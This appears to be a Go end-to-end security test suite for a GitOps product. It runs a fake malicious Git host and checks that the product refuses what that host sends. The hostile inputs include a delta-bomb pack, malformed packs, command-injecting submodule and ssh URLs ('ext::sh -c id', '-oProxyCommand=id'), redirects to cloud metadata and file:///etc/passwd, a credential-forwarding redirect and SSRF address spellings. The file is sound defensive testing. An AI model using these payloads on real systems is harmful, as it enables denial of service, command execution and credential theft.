@@ -1,0 +1,468 @@
+package attack
+
+import (
+	"bytes"
+	"compress/gzip"
+	"compress/zlib"
+	"context"
+	"crypto/ed25519"
+	"crypto/sha1" //nolint:gosec // packs end with it
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"time"
+
+	"fairlead.dev/e2e/process"
+)
+
+// gitHost is a Git host that says what the attacks have it say.
+type gitHost struct {
+	*httptest.Server
+	mu      sync.Mutex // guards what follows
+	answers map[string]http.HandlerFunc
+	seen    map[string][]string // Authorization of the requests to a repository, "" for none
+}
+
+func newGitHost() *gitHost {
+	h := &gitHost{answers: map[string]http.HandlerFunc{}, seen: map[string][]string{}}
+	h.Server = httptest.NewServer(h)
+	return h
+}
+
+// ServeHTTP implements http.Handler: the first word of the path is the repository.
+func (h *gitHost) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	name, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
+	h.mu.Lock()
+	answer := h.answers[name]
+	h.seen[name] = append(h.seen[name], r.Header.Get("Authorization"))
+	h.mu.Unlock()
+	if answer == nil {
+		http.NotFound(w, r)
+		return
+	}
+	answer(w, r)
+}
+
+func (h *gitHost) at(name string, answer http.HandlerFunc) {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	h.answers[name] = answer
+}
+
+func (h *gitHost) asked(name string) []string {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	return h.seen[name]
+}
+
+// advertisement begins a list of refs in version 0 of the protocol.
+const advertisement = "001e# service=git-upload-pack\n0000"
+
+func pktLine(text string) string { return fmt.Sprintf("%04x%s", len(text)+4, text) }
+
+// lies answers the list of refs with one head, and every fetch with these bytes.
+func lies(pack []byte) http.HandlerFunc {
+	id := strings.Repeat("1", 40)
+	list := advertisement + pktLine(id+" HEAD\x00symref=HEAD:refs/heads/main ofs-delta\n") + pktLine(id+" refs/heads/main\n") + "0000"
+	return func(w http.ResponseWriter, r *http.Request) {
+		if strings.HasSuffix(r.URL.Path, "/info/refs") {
+			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
+			_, _ = io.WriteString(w, list) // the gitcache says what it makes of it
+			return
+		}
+		_, _ = io.Copy(io.Discard, r.Body)
+		w.Header().Set("Content-Type", "application/x-git-upload-pack-result")
+		_, _ = w.Write(append([]byte("0008NAK\n"), pack...)) // as above
+	}
+}
+
+// packOf puts objects into a pack: header bytes, then content, deflated.
+func packOf(count uint32, objects ...[]byte) []byte {
+	pack := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32([]byte("PACK"), 2), count)
+	for _, object := range objects {
+		pack = append(pack, object...)
+	}
+	sum := sha1.Sum(pack) //nolint:gosec // as above
+	return append(pack, sum[:]...)
+}
+
+// Kinds of a pack's objects.
+const (
+	packCommit   = 1
+	packBlob     = 3
+	packOfsDelta = 6
+)
+
+// packed is one object: its kind, the size that it says it has, what stands between (a delta's base), and its content.
+func packed(kind byte, size uint64, base, content []byte) []byte {
+	head := []byte{kind<<4 | byte(size&15)}
+	for size >>= 4; size > 0; size >>= 7 {
+		head[len(head)-1] |= 0x80
+		head = append(head, byte(size&0x7f))
+	}
+	var body bytes.Buffer
+	w, _ := zlib.NewWriterLevel(&body, zlib.BestCompression) // a level that there is
+	_, _ = w.Write(content)                                  // never fails into memory
+	_ = w.Close()
+	return append(append(head, base...), body.Bytes()...)
+}
+
+// bomb is a pack of some 100 KB that makes 2,000 objects of 512 MiB.
+func bomb() []byte {
+	const deltas, copies, block = 2000, 32, 0xffffff
+	base := packed(packBlob, block, nil, make([]byte, block))
+	varint := func(n uint64) (b []byte) {
+		for ; n >= 0x80; n >>= 7 {
+			b = append(b, byte(n)|0x80)
+		}
+		return append(b, byte(n))
+	}
+	delta := append(varint(block), varint(copies*block)...)
+	for range copies {
+		delta = append(delta, 0x80|0x70, 0xff, 0xff, 0xff)
+	}
+	objects := [][]byte{base}
+	offset := len(base)
+	for range deltas {
+		back := []byte{byte(offset & 0x7f)}
+		for n := offset >> 7; n > 0; n >>= 7 {
+			n--
+			back = append([]byte{byte(n&0x7f) | 0x80}, back...)
+		}
+		object := packed(packOfsDelta, uint64(len(delta)), back, delta)
+		objects = append(objects, object)
+		offset += len(object)
+	}
+	return packOf(deltas+1, objects...)
+}
+
+// tree is a Git repository whose only commit has a tree that no honest client makes.
+type tree struct {
+	name, cve string
+	entries   []entry
+	words     []string
+	spec      string // of the source, besides
+}
+
+type entry struct{ mode, name, content string }
+
+func trees() []tree {
+	plain := entry{"100644", "a.yaml", "a: b\n"}
+	return []tree{
+		{name: "git folder in capitals", cve: "CVE-2024-32002", entries: []entry{{"100644", ".GIT", "x"}, plain}, words: []string{".GIT"}},
+		{name: "git folder by its short name", entries: []entry{{"100644", "git~1", "x"}, plain}, words: []string{"git~1"}},
+		{name: "git folder with invisible letters", cve: "CVE-2023-49569", entries: []entry{{"100644", ".g\u200cit", "x"}, plain}, words: []string{"git"}},
+		{name: "two dots", cve: "CVE-2023-49569", entries: []entry{{"100644", "..", "x"}, plain}, words: []string{".."}},
+		{name: "slash in a name", cve: "CVE-2023-49569", entries: []entry{{"100644", "../../x", "x"}, plain}, words: []string{"x"}},
+		{name: "same name twice", entries: []entry{plain, {"100644", "a.yaml", "c: d\n"}}, words: []string{"a.yaml"}},
+		{name: "submodule inside", cve: "CVE-2024-32002", entries: []entry{{"100644", ".gitmodules", "[submodule \"x\"]\n\tpath = sub\n\turl = https://169.254.169.254/x.git\n"}, {"160000", "sub", ""}}, spec: ", submodules: true", words: []string{"submodule"}},
+		{name: "submodule that runs a program", cve: "CVE-2024-32002", entries: []entry{{"100644", ".gitmodules", "[submodule \"x\"]\n\tpath = sub\n\turl = ext::sh -c id\n\tupdate = !id\n"}, {"160000", "sub", ""}}, spec: ", submodules: true", words: []string{"submodule"}},
+		{name: "submodule that is an option", cve: "CVE-2018-17456", entries: []entry{{"100644", ".gitmodules", "[submodule \"x\"]\n\tpath = sub\n\turl = --upload-pack=id\n"}, {"160000", "sub", ""}}, spec: ", submodules: true", words: []string{"submodule"}},
+		{name: "submodule with a path out", cve: "CVE-2018-11235", entries: []entry{{"100644", ".gitmodules", "[submodule \"../../x\"]\n\tpath = ../../x\n\turl = https://git.example.com/x.git\n"}, {"160000", "sub", ""}}, spec: ", submodules: true", words: []string{"sub"}},
+		{name: "commit that nobody signed", cve: "CVE-2022-35929", entries: []entry{plain}, spec: ", verification: {keys: [KEY]}", words: []string{"sign"}},
+	}
+}
+
+// gitHosts are attacks by the Git host of a source.
+func gitHosts() (attacks []Attack) {
+	huge := packOf(1, packed(packCommit, 1<<63, nil, []byte("x")))
+	lying := []struct {
+		name, cve string
+		answer    http.HandlerFunc
+	}{
+		{"pack that is cut off", "", lies(huge[:16])},
+		{"pack with an object of 2^63 bytes", "CVE-2023-49568", lies(huge)},
+		{"pack with bytes behind its end", "", lies(append(packOf(1, packed(packBlob, 1, nil, []byte("x"))), "more"...))},
+		{"pack with another sum", "", lies(append(bytes.Clone(huge[:len(huge)-20]), make([]byte, 20)...))},
+		{"pack that promises 2^32-1 objects", "CVE-2023-49568", lies(packOf(1<<32-1, packed(packBlob, 1, nil, []byte("x"))))},
+		{"delta that is based on itself", "", lies(packOf(1, packed(packOfsDelta, 4, []byte{0}, []byte{1, 1, 1, 'x'})))},
+		{"delta that is based before the pack", "", lies(packOf(1, packed(packOfsDelta, 4, []byte{0x7f}, []byte{1, 1, 1, 'x'})))},
+		{"pack without what was advertised", "", lies(packOf(1, packed(packBlob, 1, nil, []byte("x"))))},
+		{"no Git at all", "", func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "<html>log in</html>") }},
+		{"refs with dots, locks and line ends", "", func(w http.ResponseWriter, _ *http.Request) {
+			id := strings.Repeat("1", 40)
+			var list strings.Builder
+			list.WriteString(advertisement + pktLine(id+" refs/heads/main\x00 \n"))
+			for _, name := range []string{"refs/heads/../../../x", "refs/heads/x.lock", "refs/heads/a\nb", "refs/heads/-x", "refs/heads/" + strings.Repeat("x", 10_000), "refs/heads/@{1}", "../../../../etc/x", "refs/heads/\x1b[2J"} {
+				list.WriteString(pktLine(id + " " + name + "\n"))
+			}
+			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
+			_, _ = io.WriteString(w, list.String()+"0000") // as above
+		}},
+		{"list of refs without end", "CVE-2024-29893", func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
+			id := strings.Repeat("1", 40)
+			_, err := io.WriteString(w, advertisement+pktLine(id+" refs/heads/a\x00side-band-64k\n"))
+			for more := strings.Repeat(pktLine(id+" refs/heads/a\n"), 1000); err == nil && r.Context().Err() == nil; {
+				_, err = io.WriteString(w, more)
+			}
+		}},
+		{"body without end that inflates", "CVE-2023-40584", func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Encoding", "gzip")
+			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
+			packed := gzip.NewWriter(w)
+			_, err := io.WriteString(packed, advertisement)
+			for zeros := make([]byte, 1<<20); err == nil && r.Context().Err() == nil; {
+				_, err = packed.Write(zeros)
+			}
+		}},
+		{"redirect to the cloud's metadata", "", func(w http.ResponseWriter, r *http.Request) {
+			http.Redirect(w, r, "https://169.254.169.254"+r.URL.RequestURI(), http.StatusFound) //nolint:gosec // this is the attack
+		}},
+		{"redirect to another scheme", "CVE-2025-21613", func(w http.ResponseWriter, _ *http.Request) {
+			w.Header().Set("Location", "file:///etc/passwd")
+			w.WriteHeader(http.StatusMovedPermanently)
+		}},
+	}
+	for _, l := range lying {
+		a := Attack{Name: "Git host: " + l.name, Part: gitcache, Run: func(ctx context.Context, t *Try) (string, error) { return t.lyingHost(ctx, l.name, l.answer) }}
+		if l.cve != "" {
+			a.CVE = []string{l.cve}
+		}
+		attacks = append(attacks, a)
+	}
+	for _, tr := range trees() {
+		a := Attack{Name: "Git tree: " + tr.name, Part: gitcache, Run: func(ctx context.Context, t *Try) (string, error) { return t.tree(ctx, tr) }}
+		if tr.cve != "" {
+			a.CVE = []string{tr.cve}
+		}
+		attacks = append(attacks, a)
+	}
+	return append(
+		attacks,
+		Attack{Name: "Git host: password follows a redirect", CVE: []string{"CVE-2026-41506"}, Part: gitcache, Run: func(ctx context.Context, t *Try) (string, error) { return t.credentialRedirect(ctx) }},
+		Attack{Name: "Git host: password is repeated in the error", CVE: []string{"CVE-2023-25163"}, Part: gitcache, Run: func(ctx context.Context, t *Try) (string, error) { return t.echo(ctx) }},
+		Attack{Name: "Git host: delta bomb", CVE: []string{"CVE-2023-49568"}, Part: gitcache, Alone: true, Slow: true, Run: func(ctx context.Context, t *Try) (string, error) {
+			return t.flat(ctx, gitcache, 192, func() (string, error) { return t.lyingHost(ctx, "delta bomb", lies(bomb())) })
+		}},
+		Attack{Name: "source: addresses inside, in every spelling", Part: gitcache, Run: func(ctx context.Context, t *Try) (string, error) { return t.inward(ctx) }},
+		Attack{Name: "source: URLs that are options or programs", CVE: []string{"CVE-2025-21613", "CVE-2017-1000117"}, Part: console, Run: func(ctx context.Context, t *Try) (string, error) { return t.badURLs(ctx) }},
+	)
+}
+
+// want makes a source and a service that wants it, in the attacker's cluster, and waits until something is wrong.
+func (t *Try) want(ctx context.Context, name, spec, before string) (string, error) {
+	resources := before + fmt.Sprintf("apiVersion: fairlead.dev/v1\nkind: Source\nmetadata: {name: %[1]s}\nspec: {git: {interval: 5s, %[2]s}}\n---\napiVersion: fairlead.dev/v1\nkind: Service\nmetadata: {name: %[1]s}\nspec: {source: %[1]s, path: '.', cluster: evil, namespace: x}\n", name, spec)
+	if err := t.apply(ctx, resources); err != nil {
+		return "", err
+	}
+	var told string
+	err := process.Await(ctx, "something is wrong with "+name, func(ctx context.Context) error {
+		text, err := t.service(ctx, name)
+		if err != nil {
+			return err
+		}
+		var s status
+		if err := json.Unmarshal([]byte(text), &s); err != nil {
+			return err
+		}
+		a, err := t.call(ctx, console, sourceService+"GetSource", t.callers.admin, map[string]any{"name": name})
+		if err != nil {
+			return err
+		}
+		var source struct {
+			Source struct {
+				Status struct{ Problem struct{ Message string } }
+			}
+		}
+		if err := json.Unmarshal([]byte(a.Body), &source); err != nil {
+			return err
+		}
+		if s.Service.Status.Hub.Artifact.Digest != "" {
+			return fmt.Errorf("it is delivered as %s", s.Service.Status.Hub.Artifact.Digest)
+		}
+		if told = strings.TrimSpace(source.Source.Status.Problem.Message + " " + s.trouble()); told == "" {
+			return errors.New("nothing is wrong with it")
+		}
+		return nil
+	})
+	return told, err
+}
+
+func gitName(name string) string {
+	return "git-" + folder{name: name}.slug()[:min(len(folder{name: name}.slug()), 50)]
+}
+
+func (t *Try) lyingHost(ctx context.Context, name string, answer http.HandlerFunc) (string, error) {
+	name = gitName(name)
+	t.git.at(name+".git", answer)
+	told, err := t.want(ctx, name, "url: '"+t.git.URL+"/"+name+".git'", "")
+	return told, errors.Join(err, silentOf(told, "\x1b", t.Dir))
+}
+
+// tree makes a bare repository and waits until it is refused.
+func (t *Try) tree(ctx context.Context, tr tree) (string, error) {
+	name := gitName(tr.name)
+	if err := t.bare(ctx, name, tr.entries); err != nil {
+		return "", err
+	}
+	public, _, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		return "", err
+	}
+	wire := func(b []byte) []byte { return append(binary.BigEndian.AppendUint32(nil, uint32(len(b))), b...) }
+	key := "'ssh-ed25519 " + base64.StdEncoding.EncodeToString(append(wire([]byte("ssh-ed25519")), wire(public)...)) + "'"
+	told, err := t.want(ctx, name, "url: '"+strings.Replace(t.GitURL, "sample", name, 1)+"'"+strings.ReplaceAll(tr.spec, "KEY", key), "")
+	return told, errors.Join(err, says(strings.ReplaceAll(told, name, ""), tr.words...))
+}
+
+// bare writes a repository object by object, past the checks of Git's own commands.
+func (t *Try) bare(ctx context.Context, name string, entries []entry) error {
+	dir := filepath.Join(t.Dir, "git", name+".git")
+	git := func(stdin []byte, args ...string) (string, error) {
+		cmd := exec.CommandContext(ctx, "git", append([]string{"--git-dir=" + dir}, args...)...)
+		cmd.Stdin = bytes.NewReader(stdin)
+		cmd.Env = append(os.Environ(), "GIT_AUTHOR_NAME=x", "GIT_AUTHOR_EMAIL=x@example.com", "GIT_COMMITTER_NAME=x", "GIT_COMMITTER_EMAIL=x@example.com")
+		out, err := cmd.Output()
+		if err != nil {
+			return "", fmt.Errorf("git %v: %w", args, err)
+		}
+		return strings.TrimSpace(string(out)), nil
+	}
+	if _, err := git(nil, "init", "--quiet", "--bare", "--template=", "--initial-branch=main"); err != nil {
+		return err
+	}
+	var raw bytes.Buffer
+	for _, e := range entries {
+		id := strings.Repeat("3", 40)
+		if e.mode != "160000" {
+			var err error
+			if id, err = git([]byte(e.content), "hash-object", "-w", "--stdin"); err != nil {
+				return err
+			}
+		}
+		bytesOf, err := hex.DecodeString(id)
+		if err != nil {
+			return err
+		}
+		raw.WriteString(e.mode + " " + e.name + "\x00" + string(bytesOf))
+	}
+	id, err := git(raw.Bytes(), "hash-object", "-w", "-t", "tree", "--literally", "--stdin")
+	if err != nil {
+		return err
+	}
+	commit, err := git(nil, "commit-tree", "-m", "x", id)
+	if err != nil {
+		return err
+	}
+	_, err = git(nil, "update-ref", "refs/heads/main", commit)
+	return err
+}
+
+// credentialRedirect has a host send the gitcache, which has a password for it, to another port.
+func (t *Try) credentialRedirect(ctx context.Context) (string, error) {
+	const name = "git-redirect"
+	other := newGitHost()
+	defer other.Close()
+	t.git.at(name+".git", func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") == "" {
+			w.Header().Set("Www-Authenticate", "Basic")
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		http.Redirect(w, r, other.URL+r.URL.RequestURI(), http.StatusFound) //nolint:gosec // this is the attack
+	})
+	told, err := t.want(ctx, name, "url: '"+t.git.URL+"/"+name+".git', secret: "+name, "apiVersion: fairlead.dev/v1\nkind: Secret\nmetadata: {name: "+name+"}\ndata: {username: app, password: leaked-password}\n---\n")
+	if err != nil {
+		return told, err
+	}
+	sent := false
+	for _, authorization := range t.git.asked(name + ".git") {
+		sent = sent || authorization != ""
+	}
+	if !sent {
+		return told, errors.New("the right host was sent no password, so that this tries nothing")
+	}
+	for _, authorization := range other.asked(name + ".git") {
+		if authorization != "" {
+			return told, errors.New("the other host got the password")
+		}
+	}
+	return told, silentOf(told, "leaked-password")
+}
+
+// echo has a host repeat the password in all that it says.
+func (t *Try) echo(ctx context.Context) (string, error) {
+	const name = "git-echo"
+	t.git.at(name+".git", func(w http.ResponseWriter, r *http.Request) {
+		if r.Header.Get("Authorization") == "" {
+			w.Header().Set("Www-Authenticate", "Basic")
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		_, password, _ := r.BasicAuth()
+		w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
+		_, _ = io.WriteString(w, advertisement+pktLine("ERR \x1b[2J\x1b]0;x\x07 your password "+password+" and "+r.Header.Get("Authorization")+"\n")+"0000") // as above
+	})
+	told, err := t.want(ctx, name, "url: '"+t.git.URL+"/"+name+".git', secret: "+name, "apiVersion: fairlead.dev/v1\nkind: Secret\nmetadata: {name: "+name+"}\ndata: {username: app, password: leaked-password}\n---\n")
+	if err != nil {
+		return told, err
+	}
+	log, err := t.Process(gitcache).Log()
+	basic := base64.StdEncoding.EncodeToString([]byte("app:leaked-password"))
+	return told, errors.Join(err, says(told, "your password"), silentOf(told, "leaked-password", basic, "\x1b", "\x07"), silentOf(log, "leaked-password", basic))
+}
+
+// inward makes sources at addresses inside. Each has to be refused before it is dialled.
+func (t *Try) inward(ctx context.Context) (string, error) {
+	hosts := []string{"169.254.169.254", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::1]", "10.0.0.1", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]", "[fe80::1]", "0.0.0.0", "[::]", "0251.0376.0251.0376", "2852039166", "0xa9fea9fe", "192.168.0.1.", "255.255.255.255"}
+	var last string
+	for i, host := range hosts {
+		name := fmt.Sprintf("git-inward-%d", i)
+		source := fmt.Sprintf("apiVersion: fairlead.dev/v1\nkind: Source\nmetadata: {name: %s}\nspec: {git: {url: 'https://%s/x.git'}}\n", name, host)
+		if err := t.apply(ctx, source); err != nil {
+			last = err.Error() // refused when it was written
+			continue
+		}
+		within, cancel := context.WithTimeout(ctx, time.Minute)
+		told, err := t.want(within, name, "url: 'https://"+host+"/x.git'", "")
+		cancel()
+		if err != nil {
+			return told, fmt.Errorf("%s: %w", host, err)
+		}
+		if net.ParseIP(strings.Trim(host, "[]")) != nil {
+			if err := says(told, "address"); err != nil || strings.Contains(told, "timeout") || strings.Contains(told, "refused the connection") || strings.Contains(told, "connection refused") {
+				return told, fmt.Errorf("%s is dialled: %w", host, err)
+			}
+		}
+		last = told
+	}
+	return fmt.Sprintf("%d spellings; the last: %s", len(hosts), last), nil
+}
+
+// badURLs are refused when they are written.
+func (t *Try) badURLs(ctx context.Context) (string, error) {
+	urls := []string{
+		"ext::sh -c id", "file:///etc", "/etc", "../../etc", "-u", "--upload-pack=id", "ssh://-oProxyCommand=id/x", "ssh://git@-oProxyCommand=id/x.git", "-oProxyCommand=id:x", "git://example.com/x.git",
+		"fd::17/x", "transport::address", "https://user:password@example.com/x.git", "https://example.com/x.git\nhttps://evil", "http://example.com/x.git", "ftp://example.com/x", "git@example.com:-x", "https://", "javascript:alert(1)", "https://exa mple.com/x",
+	}
+	var last Answer
+	for _, url := range urls {
+		var err error
+		last, err = t.call(ctx, console, sourceService+"UpdateSource", t.callers.admin, map[string]any{"allowMissing": true, "source": map[string]any{
+			"metadata": map[string]any{"name": "bad-url"}, "spec": map[string]any{"git": map[string]any{"url": url}},
+		}})
+		if err != nil {
+			return "", err
+		}
+		if last.Code != http.StatusBadRequest {
+			return last.String(), fmt.Errorf("%q is taken", url)
+		}
+		if err := silentOf(last.Body, "user:password"); err != nil {
+			return last.String(), err
+		}
+	}
+	return fmt.Sprintf("%d URLs are refused; the last: %s", len(urls), last), nil
+}
